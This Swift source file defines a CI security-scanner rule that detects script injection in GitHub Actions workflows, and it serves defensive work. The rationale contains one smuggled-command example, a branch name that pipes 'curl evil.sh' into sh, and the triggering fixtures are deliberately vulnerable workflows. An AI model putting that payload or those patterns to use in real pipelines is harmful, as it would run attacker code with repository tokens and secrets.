import Foundation
import InfragateParsers

/// `${{ github.event.issue.title }}` in `run:` is pasted into the script before the shell parses it:
/// whoever writes the title writes code.
struct ScriptInjection: Rule {
    /// Event fields anyone who can open an issue, comment, name a branch or push to a fork controls
    /// (the GitHub Security Lab list of untrusted input). Indexes may be `.*` or `[n]`.
    private static let untrustedContext = NSRegularExpression(contextPattern: [
        #"github\.head_ref"#,
        #"github\.event\.(issue|pull_request|discussion)\.(title|body)"#,
        #"github\.event\.(comment|review|review_comment|discussion_comment)\.body"#,
        #"github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)"#,
        #"github\.event\.(workflow_run\.)?head_commit\.(message|author\.(email|name))"#,
        #"github\.event\.commits(\.\*|\[[^\]]*\])?\.(message|author\.(email|name))"#,
        #"github\.event\.pages(\.\*|\[[^\]]*\])?\.page_name"#,
        #"github\.event\.workflow_run\.(head_branch|display_title)"#,
        #"github\.event\.workflow_run\.pull_requests(\.\*|\[[^\]]*\])?\.head\.ref"#,
    ].joined(separator: "|"))

    let description = RuleDescription(
        id: "GHA-SCRIPT-INJECTION", title: "Untrusted event data expanded into a script", severity: .high, cwe: 94,
        owasp: "A03:2021 Injection",
        checklist: "CI/CD › Untrusted input never interpolated into scripts",
        rationale: """
            The runner substitutes `${{ … }}` into the `run:` script (or the `actions/github-script` code) as text, \
            before the shell parses it. An issue title, a pull request body, a comment or a branch name such as \
            `a";curl evil.sh|sh;"` then runs as code on the runner, with the job's `GITHUB_TOKEN` and every secret \
            the job can read. High: anyone who can open an issue or a pull request can trigger it; critical in \
            practice on `issue_comment` and `pull_request_target`, which run with write tokens and secrets.
            """,
        recommendation: "Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"`.",
        equivalents: [.checkov("CKV_GHA_2"), Equivalent(tool: "zizmor", id: "template-injection")],
        triggering: [
            RuleExample("""
                on:
                  issues:
                    types: [opened]
                jobs:
                  triage:
                    runs-on: ubuntu-latest
                    steps:
                      - name: Greet
                        run: |
                          echo "Thanks for the report"
                ↓          echo "Title: ${{ github.event.issue.title }}"
                      - name: Branch
                ↓        run: git push origin "${{ github.head_ref }}"
                """, path: ".github/workflows/ci.yml"),
            RuleExample("""
                on: pull_request_target
                jobs:
                  label:
                    runs-on: ubuntu-latest
                    steps:
                      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                        with:
                          script: |
                            const labels = []
                ↓            if ("${{ github.event.pull_request.body }}".includes("bug")) labels.push("bug")
                """, path: ".github/workflows/ci.yml"),
            RuleExample("""
                name: Comment
                runs:
                  using: composite
                  steps:
                    - shell: bash
                ↓      run: echo "Reply to ${{ github.event.comment.body }}"
                """, path: ".github/actions/reply/action.yml"),
        ],
        nonTriggering: [
            RuleExample("""
                name: Comment
                runs:
                  using: composite
                  steps:
                    - shell: bash
                      env:
                        BODY: ${{ github.event.comment.body }}
                      run: echo "Reply to $BODY"
                """, path: ".github/actions/reply/action.yml"),
            RuleExample("""
            on: issues
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - name: Greet
                    env:
                      TITLE: ${{ github.event.issue.title }}
                    run: echo "Title -- $TITLE"
                  - run: echo "Issue ${{ github.event.issue.number }} at ${{ github.sha }}"
            """, path: ".github/workflows/ci.yml"),
        ])

    func check(_ workflow: Workflow) -> [Violation] {
        workflow.jobs.flatMap(\.steps).flatMap { step in
            step.scripts.flatMap { violations(in: $0, of: step, locator: workflow.locator) }
        }
    }

    /// One violation per untrusted context and script, on the line of its first expansion.
    private func violations(in script: WorkflowStep.Script, of step: WorkflowStep, locator: ScalarLocator) -> [Violation] {
        guard let text = script.node.scalar?.text else { return [] }
        var seen = Set<String>()
        let injections = Expression.all(in: text).compactMap { expression -> (fragment: Substring, context: String)? in
            guard let context = expression.firstMatch(of: Self.untrustedContext)?.lowercased(),
                  seen.insert(context).inserted else { return nil }
            return (expression.fragment, context)
        }
        let lines = locator.lines(of: injections.map(\.fragment), in: script.node)
        return zip(injections, lines).map { injection, line in
            Violation(line: line, message: "\(step.displayName) expands untrusted `\(injection.context)` into its `\(script.key)`.",
                      identity: "\(step.identity)|\(script.key)|\(injection.context)")
        }
    }
}
